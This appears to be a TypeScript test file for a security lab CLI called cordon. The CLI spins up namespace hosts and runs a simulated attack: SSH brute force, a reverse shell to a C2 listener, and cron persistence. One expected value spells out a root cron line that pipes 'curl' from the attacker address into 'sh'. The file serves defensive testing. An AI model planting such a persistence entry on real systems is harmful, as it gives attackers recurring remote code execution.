import { execFile, execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { fileURLToPath } from 'node:url';
import { removeLabNamespaces } from '@cordon/lab';
import { runCli } from '../run-cli.ts';

function unavailable(): string | undefined {
  if (process.getuid?.() !== 0) return 'needs root';
  try {
    execFileSync('ip', ['-V'], { stdio: 'ignore' });
  } catch {
    return 'needs iproute2';
  }
  return undefined;
}
const skip = unavailable();
if (skip !== undefined && process.env.CI === 'true')
  throw new Error(`CI=true but lab CLI tests cannot run: ${skip}`);
if (skip !== undefined) console.warn(`skipping lab CLI tests: ${skip}`);

const CORDON = fileURLToPath(new URL('../../bin/cordon.js', import.meta.url));
const dir = mkdtempSync(join(tmpdir(), 'cordon-lab-cli-'));
const name = `cli${randomBytes(3).toString('hex')}`;
afterAll(async () => {
  if (skip === undefined) await removeLabNamespaces(name);
  rmSync(dir, { recursive: true, force: true });
});

async function cli(args: string[]): Promise<{ code: number; out: string; err: string }> {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  let err = '';
  stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
  const code = await runCli(args, { stdout, stderr, stdin: new PassThrough(), env: {} });
  return { code, out, err };
}

describe.skipIf(skip !== undefined)('cordon lab', () => {
  it('brings a lab up, lists it as JSON, and takes it down without leftovers', async () => {
    const where = ['--name', name, '--state-dir', dir];
    expect((await cli(['lab', 'up', '--hosts', '1', ...where])).code).toBe(0);
    const status = await cli(['lab', 'status', '--json', ...where]);
    expect(status.code).toBe(0);
    const lab = JSON.parse(status.out);
    expect(
      lab.hosts.map((h: { id: string; ipv4: string; ipv6: string; namespace: string }) => [
        h.id,
        h.ipv4,
        h.ipv6,
        h.namespace,
      ]),
    ).toEqual([
      ['h1', '198.18.0.10', 'fd00:c0d0::a', `cordon-lab-${name}-h1`],
      ['attacker', '198.18.0.200', 'fd00:c0d0::c8', `cordon-lab-${name}-attacker`],
    ]);
    // Its own server, with the host's agent enrolled; the attacker has none.
    expect(lab.server).toMatchObject({ own: true, gatewayUrl: expect.stringMatching(/^wss:/) });
    expect(lab.hosts.map((h: { agentId: string | null }) => h.agentId)).toEqual([
      expect.stringMatching(/^agent-[0-9a-f]{16}$/),
      null,
    ]);
    const env = await cli(['lab', 'status', '--env', ...where]);
    expect(env.out).toMatch(
      /^export CORDON_SERVER=http:\/\/127\.0\.0\.1:\d+ CORDON_TOKEN=\S+ CORDON_TENANT=\S+\n$/,
    );
    const log = join(dir, 'auth.log');
    // As its own process, the way a user runs it: it must exit once the attack has run. Until
    // issue 14 it never did — the C2 listener and the reverse shell it started stayed alive
    // with their pipes open to it, and the listener waits for its stdin to close.
    const attack = await new Promise<{ code: number | null; out: string; err: string }>(
      (resolve) => {
        const child = execFile(
          process.execPath,
          [CORDON, 'lab', 'attack', '--log', log, '--port', '5555', ...where],
          { timeout: 120_000, killSignal: 'SIGKILL' },
          (error, out, err) =>
            resolve({ code: error === null ? 0 : (child.exitCode ?? null), out, err }),
        );
      },
    );
    expect(attack.code, `${attack.out}${attack.err}`).toBe(0);
    // What happened, as a person reads it.
    expect(attack.out).toMatch(/^attack on h1 \(198\.18\.0\.10\) from 198\.18\.0\.200/);
    expect(attack.out).toMatch(/brute force +12 connection attempts to port 22/);
    expect(attack.out).toMatch(
      /connected to the C2 listener 198\.18\.0\.200:5555, exited with code \d+/,
    );
    expect(attack.out).toMatch(/C2 listener +1 connection\(s\) from 198\.18\.0\.10; stopped/);
    expect(attack.out).toMatch(/persistence +cron entry in \/etc\/cron\.d\/0hourly-update: /);
    expect(
      readFileSync(log, 'utf8').match(/sshd\[\d+\]: Failed password for .* from 198\.18\.0\.200/g),
    ).toHaveLength(12);
    // The cron entry sits in the host agent's persistence root, where remove-persistence works.
    expect(
      readFileSync(join(dir, name, 'agents', 'h1', 'root', 'etc/cron.d/0hourly-update'), 'utf8'),
    ).toMatch(
      /^SHELL=\/bin\/sh\n01 \* \* \* \* root run-parts \/etc\/cron\.hourly\n\*\/10 \* \* \* \* root curl -fsS http:\/\/198\.18\.0\.200:5555\/u \| sh\n$/,
    );
    expect((await cli(['lab', 'down', ...where])).code).toBe(0);
    expect(execFileSync('ip', ['netns', 'list']).toString()).not.toContain(name);
    // No server, relay or agent process of the lab outlives it.
    expect(execFileSync('ps', ['-eo', 'args']).toString()).not.toContain(join(dir, name));
    expect((await cli(['lab', 'status', ...where])).code).toBe(1);
  }, 240_000);

  it('refuses bad arguments with a clear message', async () => {
    const bad = await cli(['lab', 'up', '--hosts', '0', '--name', name, '--state-dir', dir]);
    expect(bad).toMatchObject({ code: 2 });
    expect(bad.err).toMatch(/--hosts must be 1\.\.50/);
    expect((await cli(['lab', 'up', '--name', 'Bad Name'])).err).toMatch(/--name must match/);
    expect(
      (
        await cli([
          'agent',
          'enroll',
          '--server',
          'wss://x/',
          '--token',
          'nope',
          '--config',
          join(dir, 'a.json'),
        ])
      ).err,
    ).toMatch(/not an enrolment token/);
  });
});
